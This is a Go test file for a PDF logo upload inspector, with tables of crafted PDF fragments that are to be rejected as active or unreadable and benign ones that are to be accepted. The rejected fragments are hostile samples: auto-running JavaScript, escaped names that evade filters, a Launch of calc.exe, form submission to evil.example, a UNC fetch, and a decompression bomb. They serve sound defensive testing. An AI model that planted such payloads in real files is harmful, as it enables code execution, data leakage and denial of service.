package logo_test

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
	"testing"

	"sello/api"
	"sello/api/logo"
)

// pdfOf returns a PDF with some text between its header and its end.
func pdfOf(text string) string { return "%PDF-1.7\n" + text + "\ntrailer<<>>\n%%EOF\n" }

// stream returns an object whose compressed bytes are a text.
func stream(dictionary, text string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	_, _ = z.Write([]byte(text))
	_ = z.Close()
	return fmt.Sprintf("7 0 obj\n<<%s/Filter/FlateDecode/Length %d>>\nstream\r\n%s\nendstream\nendobj\n", dictionary, b.Len(), b.String())
}

// damaged returns a stream without the checksum of its compressed bytes.
func damaged(stream string) string {
	const end = "\nendstream\nendobj\n"
	return stream[:len(stream)-len(end)-4] + end
}

const objStm = "/Type/ObjStm/N 1/First 4"

func TestS45_APDFThatDoesSomethingIsRejected(t *testing.T) {
	unreadable := map[string]bool{
		"encrypted object stream": true, "encoded object stream": true, "object stream with predictor": true, "bomb": true, "many streams": true, "many names": true,
	}
	script := "1 0 <</S/JavaScript/JS(app.alert(1))>>"
	for name, text := range map[string]string{
		"script":                       "1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
		"script with an escaped name":  "1 0 obj<</OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>>>endobj",
		"link without a click":         "1 0 obj<</AA<</O<</S/URI/URI(https://example.com)>>>>>>endobj",
		"address without a click":      "1 0 obj<</OpenAction<</S/URI/URI(https://example.com)>>>>endobj",
		"address with an escaped name": "1 0 obj<</Open#41ction <</S/#55RI/URI(https://example.com)>>>>endobj",
		"address of another object":    "1 0 obj<</OpenAction 15 0 R>>endobj 5 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj 15 0 obj<</S/URI/URI(a)>>endobj",
		"address in a later version":   "1 0 obj<</OpenAction 5 0 R>>endobj 5 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj 5 0 obj<</S/URI/URI(a)>>endobj",
		"address after the first page": "1 0 obj<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>>>endobj 5 0 obj<</S/URI/URI(a)>>endobj",
		"address behind a string":      "1 0 obj<</OpenAction<</D(>>)/S/GoTo/S/URI/URI(a)>>>>endobj",
		"printing without a click":     "1 0 obj<</OpenAction<</S/Named/N/Print>>>>endobj",
		"action behind a comment":      "1 0 obj<</OpenAction%\n<</S/URI/URI(a)>>>>endobj",
		"address behind white space":   "1 0 obj<</OpenAction 5 0 R>>endobj 5 0 obj[3 0 R]endobj 05\x00 00\r" + strings.Repeat(" ", 100) + "obj<</S/URI/URI(a)>>endobj",
		"action that is not there":     "1 0 obj<</OpenAction 5 0 R>>endobj",
		"action that does not end":     "1 0 obj<</OpenAction<</S/GoTo/D(",
		"address in an object stream":  "1 0 obj<</OpenAction 5 0 R>>endobj" + stream("/Type/ObjStm/N 2/First 9", "4 0 5 3 \n12 <</S/URI/URI(a)>>"),
		"actions of another object":    "1 0 obj<</AA\n12 0 R>>endobj",
		"actions behind a comment":     "1 0 obj<</AA \x00%\n<</O 5 0 R>>>>endobj",
		"actions with an escaped name": "1 0 obj<</#41A 12%\n0 R>>endobj",
		"many of them":                 strings.Repeat("1 0 obj<</OpenAction 5 0 R>>endobj 5 0 obj[3 0 R]endobj ", 101),
		"object stream of two starts":  "1 0 obj<</OpenAction 5 0 R>>endobj" + stream("/Type/ObjStm/N 1/First 4/First 25", "5 0 <</S/GoTo/D[3 0 R]>> <</S/URI/URI(a)>>"),
		"program":                      "1 0 obj<</AA<</O<</S /Launch/F(calc.exe)>>>>>>endobj",
		"form that sends":              "1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj",
		"form of XML":                  "1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj",
		"other file":                   "1 0 obj<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>endobj",
		"attached files":               "1 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj",
		"attached files after none":    "1 0 obj<</Names<</EmbeddedFiles<</Names[]>>>>>>endobj 1 0 obj<</Names<</EmbeddedFiles<</Names[(a)2 0 R]>>>>>>endobj",
		"attached files of a kid":      "1 0 obj<</Names<</EmbeddedFiles<</Names[]/Kids[4 0 R]>>>>>>endobj",
		"attached file":                "1 0 obj<</Type/EmbeddedFile/Length 0>>stream\nendstream endobj",
		"script in an object stream":   stream(objStm, script),
		"stream without its type":      stream("/N 1/First 4", script),
		"second stream":                stream("", "0.5 w q") + stream(objStm, script),
		"damaged object stream":        damaged(stream(objStm, script)),
		"encrypted object stream":      stream(objStm, "\x8f\x11") + "trailer<</Encrypt 3 0 R>>",
		"encoded object stream":        "7 0 obj<</Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]>>stream\nGar\nendstream",
		"object stream with predictor": stream(objStm, "\x021 0 <</S/J\x02avaScript"),
		"bomb":                         stream(objStm, "1 0 "+strings.Repeat(" ", 65<<20)),
		"many names":                   stream(objStm, "1 0 "+strings.Repeat("/EmbeddedFiles<</Names[]>>", 9<<20/26)),
		"many streams":                 strings.Repeat("stream\n", 50_001),
	} {
		t.Run(name, func(t *testing.T) {
			_, err := logo.Inspect(t.Context(), api.Upload{Name: "a.pdf", Bytes: []byte(pdfOf(text))})
			reason := logo.ActivePDF
			if unreadable[name] {
				reason = logo.UnreadablePDF
			}
			wantFault(t, err, api.KindInvalidData, reason)
		})
	}
}

func TestAPDFThatSaysVeryOftenWhatOpensIsRejected(t *testing.T) {
	page := "5 0 obj[3 0 R/Fit]endobj"
	for name, text := range map[string]string{
		"values":     strings.Repeat("<</OpenAction[3 0 R/Fit]>>", 101),
		"references": strings.Repeat("<</OpenAction 5 0 R>>", 101) + page,
	} {
		t.Run(name, func(t *testing.T) {
			_, err := logo.Inspect(t.Context(), api.Upload{Name: "a.pdf", Bytes: []byte(pdfOf(text))})
			wantFault(t, err, api.KindInvalidData, logo.ActivePDF)
		})
	}
}

func TestS45_APDFThatOnlyShowsSomethingIsAccepted(t *testing.T) {
	for name, text := range map[string]string{
		"page that is opened first":   "1 0 obj<</OpenAction[3 0 R/FitH null]>>endobj",
		"page by its name":            "1 0 obj<</OpenAction<</Type/Action/S/GoTo/D(page\\(1.>>)>>>>endobj",
		"page of another object":      "1 0 obj<</OpenAction 5 0 R>>endobj 5 0 obj<</S/GoTo/D[3 0 R/XYZ 0 0 null]>>endobj 6 0 obj<</A<</S/URI/URI(a)>>>>endobj",
		"page by another object":      "1 0 obj<</OpenAction 5 0 R>>endobj 5 0 obj[3 0 R/Fit]endobj",
		"page in an object stream":    stream("/Type/ObjStm/N 3/First 14", "1 0 4 22 5 25 \n<</OpenAction 5 0 R>>\n12 <</S/GoTo/D[3 0 R/Fit]>> <</A<</S/URI/URI(a)>>>>"),
		"empty list of files":         "1 0 obj<</Names <<\n/EmbeddedFiles << /Names [\n  \n] >>\n>>>>endobj",
		"many objects":                stream(objStm, "1 0 "+strings.Repeat("<</Type/StructElem/S/P/P 2 0 R>>", 7<<20/32)),
		"link":                        "1 0 obj<</A<</S/URI/URI(https://example.com)>>>>endobj",
		"object stream":               stream(objStm, "1 0 <</Type/Catalog/Pages 2 0 R>>"),
		"drawing and pictures":        stream("", "0 0 m 9 9 l S") + stream("", "\xff\x00\x80"),
		"two letters in a picture":    "5 0 obj<<>>stream\n\x8f/AA)\x9c[/AA\x00\xff/AA/AA endstream endobj",
		"longer name":                 "1 0 obj<</JavaScripts 1/Launchpad 2>>endobj",
		"words on the page":           "1 0 obj<</Title(JavaScript and Launch)>>endobj",
		"drawing encoded as text":     "5 0 obj<</Filter[/ASCII85Decode/FlateDecode]>>stream\nGar\nendstream endobj",
		"protected, without a stream": "trailer<</Encrypt 3 0 R>>",
		"name with a broken escape":   "1 0 obj<</A#4 1/#/#zz>>endobj",
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := logo.Inspect(t.Context(), api.Upload{Name: "a.pdf", Bytes: []byte(pdfOf(text))}); err != nil {
				t.Error(err)
			}
		})
	}
}
